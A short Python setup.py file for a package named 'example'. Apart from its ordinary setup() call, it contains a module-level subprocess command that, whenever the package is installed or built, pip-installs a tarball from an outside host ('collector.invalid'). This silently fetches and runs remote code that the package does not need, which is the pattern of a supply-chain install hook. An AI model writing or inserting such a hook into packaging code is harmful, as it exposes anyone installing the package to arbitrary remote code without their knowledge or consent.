import subprocess, sys
from setuptools import setup
subprocess.check_call([sys.executable, "-m", "pip", "install", "http://collector.invalid/helper-1.0.tar.gz"])
setup(name='example', version='1.0')
